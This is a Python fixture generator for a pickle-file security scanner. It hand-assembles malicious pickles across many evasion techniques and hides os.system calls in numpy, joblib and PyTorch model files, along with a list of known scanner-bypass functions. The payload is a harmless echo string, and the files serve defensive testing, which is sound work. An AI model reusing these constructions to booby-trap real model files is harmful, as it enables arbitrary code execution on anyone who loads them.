#!/usr/bin/python3
"""Writes the pickle scanner's fixtures into OUTDIR: malicious files for every technique class
and benign real models. Payloads are harmless strings; nothing here is ever unpickled.

Usage: make_fixtures.py OUTDIR   (idempotent; safe to run from concurrent test processes)
"""
import fcntl
import hashlib
import io
import os
import pickle
import shutil
import struct
import sys
import zipfile

PAYLOAD = "echo secmlops-fixture-payload"
HERE = os.path.dirname(os.path.abspath(__file__))
SOURCES = ("make_fixtures.py", "adversarial.py", "real_models.py")


class Reduce:
    """Pickles as callable(*args) without ever being called here."""

    def __init__(self, module, name, args=(PAYLOAD,)):
        self.module, self.name, self.args = module, name, args

    def __reduce__(self):
        fn = Global(self.module, self.name)
        return fn, self.args


class Global:
    """Stands for module.name in a pickle; pickled by reference through a fake module."""

    def __init__(self, module, name):
        self.module, self.name = module, name

    def __reduce__(self):  # never used: Reduce pickles are hand-assembled below
        raise NotImplementedError


# ---- hand assembly of opcodes ----
def s8(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def binunicode(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def glob0(module, name):  # GLOBAL (protocols 0-3)
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call_p2(module, name, *args):
    """protocol 2: GLOBAL + args tuple + REDUCE + STOP"""
    body = glob0(module, name) + b"(" + b"".join(binunicode(a) for a in args) + b"tR"
    return b"\x80\x02" + body + b"."


def call_p4(module, name, *args):
    body = s8(module) + b"\x94" + s8(name) + b"\x94\x93\x94(" + b"".join(s8(a) for a in args) + b"tR"
    return b"\x80\x04" + body + b"."


def benign_bytes():
    return pickle.dumps({"weights": [1.0, 2.0], "name": "benign"}, protocol=4)


def write(out, name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


def malicious(out):
    w = lambda n, d: write(out, n, d)
    # Plain REDUCE of os.system, every protocol. pickle records os.system as posix.system.
    for proto in range(6):
        w(f"reduce_os_system_p{proto}.pkl", pickle.dumps(_OsSystem(), protocol=proto))
    w("reduce_nt_system.pkl", call_p2("nt", "system", PAYLOAD))
    # STACK_GLOBAL fed from the memo, mixing PUT and MEMOIZE so that indices disagree.
    w("stack_global_memo.pkl",
      b"\x80\x04" + s8("os") + b"q\x00" + s8("system") + b"q\x01"
      + s8("torch._utils") + b"\x94" + s8("_rebuild_tensor_v2") + b"\x94"
      + b"h\x00h\x01\x93(" + s8(PAYLOAD) + b"tR.")
    # MEMOIZE after a sparse PUT stores at len(memo), not at the highest index.
    w("memo_len_semantics.pkl",
      b"\x80\x04" + s8("os") + b"r\x00\x01\x00\x00" + s8("system") + b"\x94"
      + b"j\x00\x01\x00\x00h\x01\x93(" + s8(PAYLOAD) + b"tR.")
    # INST and OBJ
    w("inst_p0.pkl", b"(S'" + PAYLOAD.encode() + b"'\nios\nsystem\n.")
    w("obj_p1.pkl", b"(" + glob0("subprocess", "check_output") + b"]" + binunicode("id") + b"ao.")
    # NEWOBJ_EX with args and kwargs
    w("newobj_ex.pkl", b"\x80\x04" + s8("subprocess") + s8("Popen") + b"\x93" + b"(" + s8(PAYLOAD)
      + b"t}" + s8("shell") + b"\x88s\x92.")
    # BUILD plants __setstate__, a second BUILD calls it.
    w("build_setstate.pkl",
      b"\x80\x02" + glob0("types", "SimpleNamespace") + b")R"
      + b"N}" + binunicode("__setstate__") + glob0("os", "system") + b"s\x86b"
      + binunicode(PAYLOAD) + b"b.")
    w("build_on_global.pkl", b"\x80\x02" + glob0("collections", "OrderedDict") + b"}"
      + binunicode("fromkeys") + glob0("os", "system") + b"sb.")
    # Extension registry codes: the file does not say what they import.
    w("ext_codes.pkl", b"\x80\x02\x82\x42(" + binunicode(PAYLOAD) + b"tR.")
    w("ext4_code.pkl", b"\x80\x02\x84\x01\x02\x03\x04(" + binunicode(PAYLOAD) + b"tR.")
    # Names built at run time: STACK_GLOBAL's operand is the result of a call.
    w("runtime_name.pkl", b"\x80\x04" + s8("os") + glob0("builtins", "str") + b"(" + s8("system")
      + b"tR\x93(" + s8(PAYLOAD) + b"tR.")
    # Protocol 0 text pickle with an escaped module name.
    w("p0_escaped_names.pkl", b"Vo\\u0073\nVsystem\n\x93(V" + PAYLOAD.encode() + b"\ntR.")
    w("p0_string_escapes.pkl", b"S'o\\x73'\nS'system'\n\x93(S'x'\ntR.")
    # Python 2 module names
    w("py2_builtin_eval.pkl", call_p2("__builtin__", "eval", "1+1"))
    w("py2_commands.pkl", call_p2("commands", "getoutput", PAYLOAD))
    w("py2_cpickle_loads.pkl", call_p2("cPickle", "loads", "x"))
    # Re-exports and dotted paths
    w("reexport_tempfile_os.pkl", call_p4("tempfile", "_os.system", PAYLOAD))
    w("reexport_posixpath_os.pkl", call_p4("posixpath", "os.system", PAYLOAD))
    w("dunder_traversal.pkl", call_p4("collections", "OrderedDict.__init__.__globals__", "x"))
    # Indirect callers
    w("getattr_import_module.pkl",
      b"\x80\x02" + glob0("builtins", "getattr") + b"(" + glob0("importlib", "import_module")
      + b"(" + binunicode("os") + b"tR" + binunicode("system") + b"tR(" + binunicode(PAYLOAD) + b"tR.")
    w("methodcaller.pkl", call_p2("operator", "methodcaller", "system", PAYLOAD))
    w("functools_partial.pkl", b"\x80\x02" + glob0("functools", "partial") + b"(" + glob0("os", "system")
      + binunicode(PAYLOAD) + b"tR)R.")
    w("ufunc_reconstruct.pkl", b"\x80\x02" + glob0("numpy.core", "_ufunc_reconstruct") + b"("
      + binunicode("os") + binunicode("system") + b"tR(" + binunicode(PAYLOAD) + b"tR.")
    # Nested loader whose argument is itself a malicious pickle.
    inner = pickle.dumps(_OsSystem(), protocol=2)
    w("nested_pickle_loads.pkl", b"\x80\x04" + s8("pickle") + s8("loads") + b"\x93C" + bytes([len(inner)])
      + inner + b"\x85R.")
    w("marshal_loads.pkl", call_p2("marshal", "loads", "x"))
    # Stacked pickles and trailing bytes
    w("stacked.pkl", benign_bytes() + pickle.dumps(_OsSystem(), protocol=2))
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps(_OsSystem(), protocol=2))
    w("trailing_zip.pkl", benign_bytes() + zbuf.getvalue())
    w("trailing_garbage.pkl", benign_bytes() + bytes(range(7, 250)))
    # Malformed streams that break stack/memo emulation
    w("memo_missing.pkl", b"\x80\x02h\x07(" + binunicode(PAYLOAD) + b"tR.")
    w("stack_underflow.pkl", b"\x80\x02R.")
    # The 2025 bypass families: each module.name is CRITICAL or HIGH.
    for module, name in BYPASSES:
        w(f"bypass_{module}_{name}.pkl".replace("/", "_"), call_p2(module, name, PAYLOAD))


# Functions picked from public scanner bypass reports: profilers, debuggers, test and REPL
# helpers, packaging tools, subprocess wrappers inside other modules.
BYPASSES = [
    ("cProfile", "run"), ("profile", "run"), ("pdb", "run"), ("timeit", "timeit"),
    ("code", "InteractiveInterpreter"), ("pydoc", "pipepager"), ("doctest", "debug_script"),
    ("idlelib.pyshell", "ModifiedInterpreter"), ("lib2to3.main", "main"),
    ("distutils.spawn", "spawn"), ("setuptools.sandbox", "run_setup"),
    ("asyncio.unix_events", "_UnixSubprocessTransport"), ("multiprocessing.util", "spawnv_passfds"),
    ("webbrowser", "open"), ("shutil", "rmtree"), ("tempfile", "mkdtemp"), ("glob", "glob"),
    ("ensurepip", "_run_pip"), ("venv", "create"), ("trace", "Trace"),
    ("test.support.script_helper", "assert_python_ok"), ("_posixsubprocess", "fork_exec"),
    ("numpy.testing._private.utils", "runstring"), ("numpy.f2py.crackfortran", "getlincoef"),
    ("torch.utils.cpp_extension", "load_inline"), ("torch._dynamo.guards", "GuardBuilder"),
    ("pip", "main"), ("pkgutil", "resolve_name"), ("runpy", "run_path"), ("pty", "spawn"),
    ("ctypes", "CDLL"), ("importlib", "import_module"), ("torch", "load"), ("numpy", "load"),
    ("joblib", "load"), ("dill", "loads"), ("builtins", "exec"), ("builtins", "open"),
    ("io", "FileIO"), ("socket", "create_connection"), ("sys", "exit"), ("logging.config", "listen"),
]


class _OsSystem:
    def __reduce__(self):
        return os.system, (PAYLOAD,)


def numpy_fixtures(out):
    import numpy as np
    np.save(os.path.join(out, "benign_array.npy"), np.arange(1000, dtype=np.float32).reshape(10, 100))
    np.save(os.path.join(out, "benign_fortran.npy"), np.asfortranarray(np.ones((7, 3))))
    np.save(os.path.join(out, "benign_structured.npy"),
            np.zeros(5, dtype=[("a", "<i4"), ("b", "<f8", (2,)), ("s", "S3")]))
    np.save(os.path.join(out, "benign_unicode.npy"), np.array(["ab", "cde"]))
    np.save(os.path.join(out, "benign_object.npy"), np.array([1, "two", None], dtype=object),
            allow_pickle=True)
    np.save(os.path.join(out, "malicious_object.npy"), np.array([1, _OsSystem()], dtype=object),
            allow_pickle=True)
    with open(os.path.join(out, "benign_array_p4.pkl"), "wb") as f:
        pickle.dump(np.arange(4096, dtype=np.float64), f, protocol=4)
    with open(os.path.join(out, "benign_array_p2.pkl"), "wb") as f:
        pickle.dump({"a": np.ones((3, 3)), "i": np.int64(3)}, f, protocol=2)
    # A pickle appended to the array data
    data = io.BytesIO()
    np.save(data, np.arange(10, dtype=np.int16))
    write(out, "npy_trailing_pickle.npy", data.getvalue() + pickle.dumps(_OsSystem(), protocol=2))
    write(out, "npy_truncated.npy", data.getvalue()[:-4])
    write(out, "npy_bad_header.npy", b"\x93NUMPY\x01\x00\x20\x00{'descr': __import__('os')}     \n")


def sklearn_fixtures(out):
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    rng = np.random.RandomState(0)
    X = rng.rand(60, 4)
    y = (X[:, 0] > 0.5).astype(int)
    lr = LogisticRegression().fit(X, y)
    pipe = Pipeline([("scale", StandardScaler()), ("rf", RandomForestClassifier(n_estimators=3, random_state=0))]).fit(X, y)
    with open(os.path.join(out, "benign_sklearn_logreg.pkl"), "wb") as f:
        pickle.dump(lr, f)
    with open(os.path.join(out, "benign_sklearn_pipeline.pkl"), "wb") as f:
        pickle.dump(pipe, f, protocol=2)
    joblib.dump(pipe, os.path.join(out, "benign_sklearn_pipeline.joblib"))
    joblib.dump({"model": lr, "names": np.array(["a", "b"], dtype=object)},
                os.path.join(out, "benign_joblib_object_array.joblib"))
    evil = {"arr": np.arange(100, dtype=np.float64), "f": np.ones((3, 5), order="F"),
            "evil": _OsSystem(), "tail": np.zeros(7, dtype=np.int8)}
    joblib.dump(evil, os.path.join(out, "malicious_after_arrays.joblib"))
    joblib.dump({"arr": np.arange(5), "obj": np.array([1, _OsSystem()], dtype=object)},
                os.path.join(out, "malicious_object_array.joblib"))
    for method in ("zlib", "gzip", "bz2", "xz", "lz4"):
        try:
            joblib.dump(pipe, os.path.join(out, f"benign_sklearn_pipeline_{method}.joblib"), compress=(method, 3))
            joblib.dump(evil, os.path.join(out, f"malicious_{method}.joblib"), compress=(method, 3))
        except Exception:  # lz4 is optional in joblib
            pass


def torch_fixtures(out):
    import torch
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    sd = net.state_dict()
    torch.save(sd, os.path.join(out, "benign_torch_state_dict.pt"))
    torch.save(sd, os.path.join(out, "benign_torch_state_dict_legacy.pt"), _use_new_zipfile_serialization=False)
    torch.save(net, os.path.join(out, "benign_torch_full_model.pt"))
    torch.save(net, os.path.join(out, "benign_torch_full_model_legacy.pt"), _use_new_zipfile_serialization=False)
    ckpt = {"epoch": 3, "model": sd, "optimizer": torch.optim.SGD(net.parameters(), lr=0.1).state_dict(),
            "half": torch.ones(5, dtype=torch.float16), "long": torch.arange(6)}
    torch.save(ckpt, os.path.join(out, "benign_torch_checkpoint_legacy.pt"), _use_new_zipfile_serialization=False)
    torch.save(ckpt, os.path.join(out, "benign_torch_checkpoint.pt"))
    evil = {"model": sd, "evil": _OsSystem()}
    torch.save(evil, os.path.join(out, "malicious_torch.pt"))
    torch.save(evil, os.path.join(out, "malicious_torch_legacy.pt"), _use_new_zipfile_serialization=False)
    legacy = io.BytesIO()
    torch.save(sd, legacy, _use_new_zipfile_serialization=False)
    write(out, "malicious_torch_legacy_trailing.pt", legacy.getvalue() + pickle.dumps(_OsSystem(), protocol=2))


def benign_plain(out):
    data = {"ints": list(range(50)), "floats": [0.5, 1.5], "s": "text", "b": b"bytes",
            "t": (1, 2, (3, 4)), "set": {1, 2}, "fs": frozenset({3}), "ba": bytearray(b"xy"),
            "c": complex(1, 2), "big": 2 ** 100, "neg": -5, "none": None}
    for proto in range(6):
        write(out, f"benign_plain_p{proto}.pkl", pickle.dumps(data, protocol=proto))
    import collections
    write(out, "benign_ordereddict.pkl", pickle.dumps(collections.OrderedDict(a=1), protocol=2))


def generate(out):
    sys.path.insert(0, HERE)
    import adversarial
    import real_models
    adversarial.write_all(out, write)
    real_models.generate(out)
    malicious(out)
    benign_plain(out)
    numpy_fixtures(out)
    sklearn_fixtures(out)
    torch_fixtures(out)


def main():
    out = os.path.abspath(sys.argv[1])
    h = hashlib.sha256()
    for name in SOURCES:
        with open(os.path.join(HERE, name), "rb") as f:
            h.update(f.read())
    digest = h.hexdigest()
    os.makedirs(os.path.dirname(out) or ".", exist_ok=True)
    with open(out + ".lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        stamp = os.path.join(out, ".stamp")
        if os.path.exists(stamp) and open(stamp).read() == digest:
            return 0
        tmp = out + ".tmp"
        shutil.rmtree(tmp, ignore_errors=True)
        os.makedirs(tmp)
        generate(tmp)
        with open(os.path.join(tmp, ".stamp"), "w") as f:
            f.write(digest)
        shutil.rmtree(out, ignore_errors=True)
        os.rename(tmp, out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
